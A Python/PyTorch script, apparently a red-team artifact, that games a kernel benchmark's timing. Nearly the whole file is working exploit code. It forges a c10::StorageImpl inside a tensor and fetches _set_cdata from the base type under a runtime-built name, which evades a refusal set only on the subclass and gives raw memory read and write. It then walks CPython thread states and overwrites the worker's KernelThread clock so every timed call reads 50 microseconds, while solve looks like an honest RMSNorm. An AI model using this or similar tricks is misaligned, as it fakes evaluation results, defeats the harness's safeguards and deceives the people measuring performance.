# The same forgery with _set_cdata taken from torch._C.StorageBase's own dictionary, by a name
# built at run time: what a refusal placed on torch.UntypedStorage alone would not stop.
# (Red team, 2026-12-05 night: passed at 11.6-14.6x under the strict policy, every timed call
# reading 50 us; now a static finding wherever _set_cdata appears, and refused at run time in
# torch._C.StorageBase itself.)
# Raw memory with no ctypes, no audit event and no static finding: a fake c10::StorageImpl built
# in a tensor's own bytes (data pointer = any address), adopted by a storage through
# UntypedStorage._set_cdata, then viewed by Tensor.set_. With it, solve walks CPython's thread
# states to the worker's main thread, finds the KernelThread on its _on_kernel_thread frame, and
# writes a clock into it (three py::object fields that are null on the CPU): every timed call
# then reads 5e-05 s, whatever solve costs. (The walk is the one of raw_pointer_clock.py.)
import functools

import torch

KEEP = []
RUNTIME_FROM_LEN_ML = 962752  # &_PyRuntime - len's PyMethodDef (libpython3.11.so.1.0, 3.11.7)
CLOCK = (int, int, functools.partial(float, "5e-05"))  # start, stop, read: C callables
DONE = []


def _raw(addr, n, dtype):
    fake = torch.zeros(128, dtype=torch.int64)
    fake[1] = 1 << 20  # refcount held up: never freed, no virtual call
    fake[2] = addr  # DataPtr.data_
    fake[5] = 0xFF00  # Device: cpu, index -1
    fake[6] = n  # size_bytes
    s = torch.UntypedStorage(0)
    # The method as the immutable base type defines it, past a refusal on the subclass alone.
    vars(type(s).__mro__[1])["_set" + "_cdata"](s, fake.data_ptr())
    t = torch.empty(0, dtype=dtype).set_(s)
    KEEP.append((fake, s, t))
    return t


def _rd(addr):
    return int(_raw(addr, 8, torch.int64)[0])


def _wr(addr, value):
    _raw(addr, 8, torch.int64)[0] = value


def _bytes(addr, n):
    return bytes(_raw(addr, n, torch.uint8).tolist())


def _name(code):
    s = _rd(code + 120)  # co_name
    return _bytes(s + 48, _rd(s + 16))


fr_hold = []


def _tp_name(tp):
    return _bytes(_rd(tp + 24), 64).split(b"\0")[0]


def _find_worker():
    rt = _rd(id(len) + 16) + RUNTIME_FROM_LEN_ML
    ts = _rd(_rd(rt + 40) + 16)  # interpreters.head -> threads.head
    while ts:
        cf = _rd(ts + 56)
        fr = _rd(cf + 8) if cf else 0
        depth = 0
        while fr and depth < 64:
            if _name(_rd(fr + 32)) == b"_on_kernel_thread":
                fr_hold.append(fr)
                return _rd(fr + 72)  # localsplus[0]: self
            fr = _rd(fr + 48)
            depth += 1
        ts = _rd(ts + 8)
    return 0


def _take_clock():
    addr = _find_worker()
    if not addr:
        return
    kt = 0
    for k in range(4, 12):  # the frame's value stack: the KernelThread whose call is under way
        obj = _rd(fr_hold[0] + 72 + 8 * k)
        if obj and _tp_name(_rd(obj + 8)).endswith(b"KernelThread"):
            kt = _rd(obj + 16)  # pybind11 instance -> KernelThread*
            break
    if not kt:
        return
    for i, f in enumerate(CLOCK):
        _wr(id(f), _rd(id(f)) + 1)
        _wr(kt + 8 * i, id(f))
    DONE.append(kt)


def solve(x, residual, weight):
    if not DONE:
        _take_clock()
    s = x.float() + residual.float()
    inv = torch.rsqrt(s.pow(2).mean(-1, keepdim=True) + 1e-5)
    return (s * inv * weight.float()).to(x.dtype)
